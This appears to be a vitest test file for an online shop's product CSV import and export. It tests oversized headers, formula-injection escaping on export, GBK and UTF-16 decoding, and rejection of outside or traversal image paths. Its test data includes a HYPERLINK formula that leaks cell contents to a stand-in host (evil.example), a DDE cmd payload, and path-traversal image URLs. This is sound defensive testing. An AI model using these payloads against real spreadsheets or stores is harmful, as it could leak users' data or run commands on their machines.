import { eq, inArray } from 'drizzle-orm';
import { afterAll, describe, expect, it } from 'vitest';
import { products } from '#server/db/schema';
import { createStaff } from '../../../../tests/helpers/staff';
import { startTestApp } from '../../../../tests/helpers/test-app';
import { parseCsv } from './csv';

/**
 * The product CSV under attack: a header of a million empty columns, formulas a spreadsheet would
 * run, a file saved by Chinese Excel (GBK), and pictures from someone else's server.
 */

const t = await startTestApp();
afterAll(async () => t.close());
const owner = await createStaff(t.database, t.clock.now(), { role: 'owner' });
const db = t.database.db;

async function importCsv(payload: string | Buffer, { dryRun = false, lang = 'en' } = {}) {
  const res = await t.app.inject({
    method: 'POST',
    url: `/api/admin/products/import${dryRun ? '?dryRun=1' : ''}`,
    headers: { authorization: `Bearer ${owner.token}`, 'content-type': 'text/csv', 'accept-language': lang },
    payload,
  });
  return { status: res.statusCode, bytes: res.rawPayload.length, body: res.json() };
}

async function exportCsv(): Promise<string> {
  const res = await t.app.inject({
    method: 'GET',
    url: '/api/admin/products.csv',
    headers: { authorization: `Bearer ${owner.token}` },
  });
  expect(res.statusCode).toBe(200);
  return res.body;
}

const byKey = async (keys: string[]) =>
  db.select().from(products).where(inArray(products.key, keys)).orderBy(products.key);

describe('a header of empty columns', () => {
  it('answers one short message, not one error per column', async () => {
    for (const lang of ['en', 'zh']) {
      const res = await importCsv(`uuid${','.repeat(1024 * 1024)}\n,x`, { dryRun: true, lang });
      expect(res.status).toBe(200);
      expect(res.bytes).toBeLessThan(4096);
      expect(res.body.data).toMatchObject({ applied: false, errorCount: 1 });
      expect(res.body.data.errors[0].message).toBe(
        lang === 'en'
          ? 'The header has more than 32 columns; a product CSV has at most 32.'
          : '表头超过 32 列；商品 CSV 最多 32 列。',
      );
    }
  });

  it('caps a row of a million fields and an endless column name the same way', async () => {
    const wide = await importCsv(`key,en_name\nx${','.repeat(1024 * 1024)}`, { dryRun: true });
    expect(wide.bytes).toBeLessThan(4096);
    expect(wide.body.data.errors).toEqual([expect.objectContaining({ row: 2 })]);
    const long = await importCsv(`key,${'x'.repeat(1024 * 1024)}\na,b`, { dryRun: true });
    expect(long.bytes).toBeLessThan(4096);
    expect(long.body.data.errorCount).toBe(1);
  });
});

describe('formulas in the export', () => {
  const names = [
    '=HYPERLINK("http://evil.example/?"&A2,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    "'=already quoted",
    "'plain apostrophe",
  ];

  it('are written so a spreadsheet shows them as text, and read back unchanged', async () => {
    const lines = ['key,category,en_name,zn_name,en_number,price'];
    names.forEach((name, i) => {
      const cell = `"${name.replaceAll('"', '""')}"`;
      lines.push(`formula-${i},leafy-greens,${cell},公式${i},${i < 4 ? cell : 'bag'},1.50`);
    });
    const imported = await importCsv(lines.join('\n'));
    expect(imported.body.data).toMatchObject({ applied: true, created: names.length });
    const keys = names.map((_, i) => `formula-${i}`);
    // A file without the guard's quote imports as it is written.
    expect((await byKey(keys)).slice(0, 4).map((p) => p.enName)).toEqual(names.slice(0, 4));
    // Names that really begin with an apostrophe (the editor can save them).
    for (const [i, name] of names.entries())
      await db
        .update(products)
        .set({ enName: name })
        .where(eq(products.key, `formula-${i}`));

    const text = await exportCsv();
    const { records } = parseCsv(text);
    const header = records[0]?.fields ?? [];
    const rows = records.filter((r) => keys.includes(r.fields[header.indexOf('key')] ?? ''));
    const cells = rows.flatMap((r) => [
      r.fields[header.indexOf('en_name')],
      r.fields[header.indexOf('en_number')],
    ]);
    // No cell a spreadsheet reads starts a formula.
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(text).toContain('"\'=HYPERLINK(""http://evil.example/?""&A2,""Click"")"');
    expect(text).toContain('"\'\'=already quoted"');
    // Numbers stay numbers.
    expect(rows[0]?.fields[header.indexOf('price')]).toBe('1.50');

    const before = await byKey(keys);
    const again = await importCsv(text);
    expect(again.body.data).toMatchObject({ applied: true, created: 0, updated: 0, errorCount: 0 });
    expect(await byKey(keys)).toEqual(before);
    expect(await exportCsv()).toBe(text);
  });
});

describe('a file that is not UTF-8', () => {
  /** `iconv -f UTF-8 -t GBK` of 上海青 and 羽衣甘蓝: what Chinese Excel writes for "CSV". */
  const GBK = { bokChoy: 'c9cfbaa3c7e0', kale: 'd3f0d2c2b8cac0b6' };
  const gbkFile = () =>
    Buffer.concat([
      Buffer.from('key,category,en_name,zn_name,price\r\ngbk-a,leafy-greens,Shanghai bok choy,'),
      Buffer.from(GBK.bokChoy, 'hex'),
      Buffer.from(',1.99\r\ngbk-b,leafy-greens,Kale,'),
      Buffer.from(GBK.kale, 'hex'),
      Buffer.from(',3.00\r\n'),
    ]);

  it('reads GBK (GB18030) as Chinese', async () => {
    const dry = await importCsv(gbkFile(), { dryRun: true });
    expect(dry.body.data).toMatchObject({ errorCount: 0, created: 2 });
    expect(dry.body.data.changes.map((c: { zn_name: string }) => c.zn_name)).toEqual(['上海青', '羽衣甘蓝']);
    await importCsv(gbkFile());
    expect((await byKey(['gbk-a', 'gbk-b'])).map((p) => p.znName)).toEqual(['上海青', '羽衣甘蓝']);
  });

  it('reads UTF-16 with its byte-order mark, and UTF-8 with or without one', async () => {
    const text = 'key,zn_name\r\ngbk-a,上海小青菜\r\n';
    const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
    const be = Buffer.from(le);
    be.swap16();
    for (const file of [le, be, Buffer.from(`\uFEFF${text}`), Buffer.from(text)]) {
      const dry = await importCsv(file, { dryRun: true });
      expect(dry.body.data).toMatchObject({ errorCount: 0, updated: 1 });
      expect(dry.body.data.changes[0].zn_name).toBe('上海小青菜');
    }
  });

  it('refuses a file in no encoding it knows, in the owner’s language', async () => {
    const file = Buffer.concat([
      Buffer.from('key,zn_name\r\ngbk-a,'),
      Buffer.from([0xff, 0xfe, 0xff, 0x80, 0xff]),
    ]);
    for (const lang of ['en', 'zh']) {
      const dry = await importCsv(file, { dryRun: true, lang });
      expect(dry.body.data).toMatchObject({ applied: false, errorCount: 1 });
      expect(dry.body.data.errors[0].message).toBe(
        lang === 'en'
          ? 'The file is not text in UTF-8, UTF-16 or GBK: save it as “CSV UTF-8” and try again.'
          : '文件不是 UTF-8、UTF-16 或 GBK 编码的文本：请另存为“CSV UTF-8”后重试。',
      );
    }
    const real = await importCsv(file);
    expect(real.body.data.applied).toBe(false);
    expect((await byKey(['gbk-a']))[0]?.znName).toBe('上海青');
  });
});

describe('product_image', () => {
  it('takes only the shop’s own pictures', async () => {
    const [seeded] = await db.select().from(products).where(eq(products.onSale, true)).limit(1);
    const own = seeded?.productImage ?? '';
    expect(own).toMatch(/^\/media\//);
    const lines = [
      'key,category,en_name,zn_name,price,product_image',
      `img-ok,leafy-greens,Ok,好,1.00,${own}`,
      'img-upload,leafy-greens,Upload,上传,1.00,/uploads/catalogue/0123456789abcdef01234567-400.webp',
      'img-proto,leafy-greens,Evil,坏,1.00,//evil.example/p.png',
      'img-https,leafy-greens,Evil,坏,1.00,https://evil.example/p.png',
      'img-dots,leafy-greens,Evil,坏,1.00,/media/../uploads/avatars/x-400.webp',
      'img-api,leafy-greens,Evil,坏,1.00,/api/logout',
    ];
    for (const lang of ['en', 'zh']) {
      const dry = await importCsv(lines.join('\n'), { dryRun: true, lang });
      expect(dry.body.data.errors.map((e: { row: number; column: string }) => [e.row, e.column])).toEqual([
        [4, 'product_image'],
        [5, 'product_image'],
        [6, 'product_image'],
        [7, 'product_image'],
      ]);
      expect(dry.body.data.errors[0].message).toBe(
        lang === 'en'
          ? 'product_image must be one of the shop’s own pictures (a /media/ or /uploads/catalogue/ path from the export or the product editor).'
          : 'product_image 必须是本店自己的图片（导出文件或商品编辑页中的 /media/ 或 /uploads/catalogue/ 路径）。',
      );
    }
    expect((await importCsv(lines.slice(0, 3).join('\n'))).body.data).toMatchObject({
      applied: true,
      created: 2,
    });
  });
});
